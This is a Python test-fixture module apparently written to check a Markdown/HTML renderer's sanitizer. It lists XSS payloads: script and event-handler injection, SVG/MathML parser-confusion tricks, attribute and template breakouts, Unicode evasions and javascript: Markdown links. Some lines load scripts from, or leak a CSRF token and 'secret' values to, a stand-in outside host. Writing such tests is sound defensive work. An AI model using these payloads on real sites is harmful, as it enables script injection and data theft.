"""Texts that try to run something in the browser of whoever reads them: each calls ``ran`` if it gets so far.

Written for this project along the ways that are known: what parsers repair, what Markdown makes, what names in a page
may stand for, what is decoded twice.
"""

from __future__ import annotations

PLAIN = (
    # Elements that run or load
    "<script>ran(1)</script>",
    "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "<script type=module>import('//elsewhere.example/x.js')</script>",
    "<script>ran(2)",
    "<scr<script>ipt>ran(3)</scr</script>ipt>",
    "<iframe src='javascript:parent.ran(4)'></iframe>",
    "<iframe srcdoc='<script>parent.ran(5)</script>'></iframe>",
    "<object data='data:text/html,<script>ran(6)</script>'></object>",
    "<embed src=//elsewhere.example/x.swf>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<link rel=prefetch href=//elsewhere.example/seen>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<meta http-equiv='Content-Security-Policy' content='script-src *'>",
    "<portal src=//elsewhere.example/></portal>",
    "<template><script>ran(7)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=ran(8)></template>",
    # Handlers of events
    "<img src=x onerror=ran(9)>",
    "<img/src=`x`/onerror=ran(10)>",
    "<img src=x:x\tonerror\n=\nran(11)>",
    "<body onload=ran(12) onpageshow=ran(13)>",
    "<details open ontoggle=ran(14)><summary>x</summary></details>",
    "<input autofocus onfocus=ran(15)>",
    "<video><source onerror=ran(16)></video>",
    "<audio src=x onerror=ran(17)>",
    "<marquee onstart=ran(18)>x</marquee>",
    "<p onanimationstart=ran(19) style=animation-name:dot>x</p>",
    "<div onscrollsnapchange=ran(20) onmouseover=ran(21)>x</div>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=ran(22)>x</div>",
    # Other languages in the page, and what changes meaning when it is written out and read again
    "<svg onload=ran(23)>",
    "<svg><script>ran(24)</script></svg>",
    "<svg><a href=javascript:ran(25)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:ran(26) begin=0s onbegin=ran(27)>",
    "<svg><style><img src=x onerror=ran(28)></style>",
    "<svg><foreignObject><img src=x onerror=ran(29)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran(30)&gt;'>",
    "<math><maction actiontype=statusline#//x xlink:href=javascript:ran(31)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(32)>",
    "<noscript><p title='</noscript><img src=x onerror=ran(33)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=ran(34)>'>",
    "<xmp><p title='</xmp><img src=x onerror=ran(35)>'>",
    "<select><template><style></select><img src=x onerror=ran(36)>",
    "<!--><img src=x onerror=ran(37)>-->",
    "<![CDATA[<img src=x onerror=ran(38)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran(39)</x:script>",
    "<a <b=''><img src=x onerror=ran(40)//></a>",
    # Styles
    "<style>@import '//elsewhere.example/x.css';</style>",
    "<p style='background:url(//elsewhere.example/x.png)'>x</p>",
    "<style>:root{--paper:url(//elsewhere.example/p)}input[name=csrf][value^=a]{background:var(--paper)}</style>",
    # Names that scripts of the page look for
    "<form id=compose><input id=text name=attributes></form>",
    "<meta name=csrf content=stolen>",
    "<a id=alert></a><a id=alert name=hidden href=x>x</a>",
    "<img name=body><img name=querySelector><form id=log>",
    "<article class=turn id=t-x data-turn=x><button data-do=again data-press=x>x</button></article>",
    # Out of an attribute, out of an element, out of a template
    "' onmouseover=ran(41) x='",
    '"><img src=x onerror=ran(42)>',
    "</div></div></article></main><script>ran(43)</script>",
    "</title></textarea></style></template><script>ran(44)</script>",
    "{{ self.__init__.__globals__ }}{% raw %}<script>ran(45)</script>",
    "${ran(46)}#{ran(47)}<%= ran(48) %>{{constructor.constructor('ran(49)')()}}",
    "\\u003cscript\\u003eran(50)\\u003c/script\\u003e",
    # Odd characters
    "&lt;script&gt;ran(51)&lt;/script&gt; &#60;script&#62;ran(52)&#60;/script&#62; &amp;lt;script&amp;gt;",
    "<\u200bscript>ran(53)</script> \uff1cscript\uff1eran(54)\uff1c/script\uff1e",
    "<scr\u00adipt>ran(55)</scr\u00adipt> \u2028<img src=x onerror=ran(56)>\u2029",
    "<\u0131mg src=x onerror=ran(57)> <\u017fcript>ran(58)</\u017fcript>",
    "\u202e<img src=x onerror=ran(59)>\u202c",
    # What Markdown makes links and pictures of
    "[a](javascript:ran(60)) [b](JaVaScRiPt:ran(61)) [c](&#106;avascript:ran(62)) [d](javascript&colon;ran(63))",
    "[a](java\\\nscript:ran(64)) [b](<java\tscript:ran(65)>) [c](\x01javascript:ran(66)) [d](vbscript:ran)",
    "[a](data:text/html;base64,PHNjcmlwdD5yYW4oNjcpPC9zY3JpcHQ+) [b](blob:null/x) [c](filesystem:x) [d](view-source:x)",
    "[a](//elsewhere.example) [b](/sign-out) [c](\\\\elsewhere.example) [d](?x) [e](#compose) [f](file:///etc/passwd)",
    '[a](https://elsewhere.example/ "x\' onmouseover=ran(68) y=\'") [b](https://elsewhere.example/"onmouseover="ran(69))',
    "<javascript:ran(70)> <data:text/html,x> <https://elsewhere.example/'onclick='ran(71)>",
    "[a]: javascript:ran(72)\n\n[a] and [b][a]",
    "![x](https://elsewhere.example/?said=secret) ![x](javascript:ran(73)) ![x](data:image/svg+xml,<svg/onload=ran(74)>)",
    "![x][y]\n\n[y]: https://elsewhere.example/y.png",
    "[![x](https://elsewhere.example/z.png)](javascript:ran(75))",
    "[x](https://elsewhere.example/`<img src=x onerror=ran(76)>`) `<img src=x onerror=ran(77)>`",
    '| <img src=x onerror=ran(78)> | [x](javascript:ran(79)) |\n|:-" onmouseover=ran(80)|-|\n| <b onclick=ran(81)>x</b> | ` ` |',
    "# <b onclick=ran(82)>x</b> {#compose .alert onclick=ran(83)}",
    "- <script\n>ran(84)</script\n>\n  > <svg><script>ran(85)</script></svg>",
    "    <script>ran(86)</script>",
)
"""Each a paragraph or more of a text, which leaves nothing open that would swallow the next."""
OPEN = (
    '```html\n<script>ran(87)</script>\n```\n\n```"><script>ran(88)</script>\nx\n```',
    '~~~ javascript onload=ran(89) class="x"><img src=x onerror=ran(90)>\nx\n~~~',
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\nclick x call ran(91)\n",
    "> ```\n> </code></pre><script>ran(92)</script>",
)
"""Each a whole text: what stands behind would be read as part of it."""
NAMES = (
    "<img src=x onerror=ran(93)>",
    "\"'><script>ran(94)</script>",
    "</span></form><svg onload=ran(95)>",
    "{{7*7}} &lt;b&gt; `x` [x](javascript:ran(96))",
)
"""Short ones, for names and titles."""
